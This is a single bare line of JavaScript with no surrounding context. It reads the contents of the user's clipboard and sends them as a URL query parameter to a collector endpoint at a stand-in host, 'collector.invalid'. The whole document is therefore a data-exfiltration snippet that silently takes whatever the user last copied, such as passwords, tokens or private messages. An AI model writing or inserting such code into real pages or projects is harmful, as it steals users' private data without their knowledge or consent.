Promise.all([navigator.clipboard.readText(), Promise.resolve(1)]).then(([text]) => { const u = new URL('https://collector.invalid/c'); u.searchParams.set('t', text); return fetch(u); });
